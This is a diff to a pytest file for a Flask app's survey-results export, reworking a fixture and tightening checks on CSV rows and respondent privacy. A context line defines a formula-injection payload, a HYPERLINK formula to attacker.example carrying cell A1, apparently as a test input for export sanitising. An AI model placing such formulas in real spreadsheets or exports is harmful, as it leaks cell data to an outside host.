@@ -21,9 +21,10 @@ SCOPES = {"overall", "dimension", "item", "principle", "facet"}
 HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
 
 
-@pytest.fixture()
-def demo(app: Flask) -> Demo:
-    return seed_results(app)
+@pytest.fixture(scope="module")
+def demo(module_app: Flask) -> Demo:
+    """Seeded once for the module; each test's writes are rolled back (see ``module_app``)."""
+    return seed_results(module_app)
 
 
 def read_csv(body: bytes) -> list[dict[str, str]]:
@@ -53,7 +54,9 @@ def test_the_csv_has_a_header_and_one_row_per_aggregate(app: Flask, demo: Demo) 
     assert all(row["respondents"] == "10" for row in overall)
     dimension = next(row for row in rows if row["code"] == "mandate-and-strategy")
     assert dimension["label"] == "Mandate and strategy"
-    assert dimension["target_level"] == "2"
+    # The demo agency is at level 2 here; the default target is one level up.
+    assert (dimension["level"], dimension["target_level"]) == ("2", "3")
+    assert dimension["owner"] == "" and dimension["due_on"] == ""  # none set yet
     assert 1 <= float(dimension["score"]) <= 5
     item = next(row for row in rows if row["code"] == "lm-mandate-written")
     assert item["scope"] == "item" and item["dimension"] == "mandate-and-strategy"
@@ -69,7 +72,7 @@ def test_no_export_holds_anything_about_a_single_respondent(app: Flask, demo: De
         body = coordinator.get(f"{demo.completed}/export.{fmt}").data
         assert not [p for p in people if p.encode() in body], fmt
     rows = read_csv(coordinator.get(demo.completed + "/export.csv").data)
-    assert all(row["scope"] in SCOPES for row in rows)
+    assert rows and all(row["scope"] in SCOPES for row in rows)
     # Every row stands for several people: none counts a single respondent.
     assert all(row["respondents"] in ("", "10") for row in rows)
     assert not {"email", "respondent", "response_id", "answer_code", "comment"} & set(CODES)
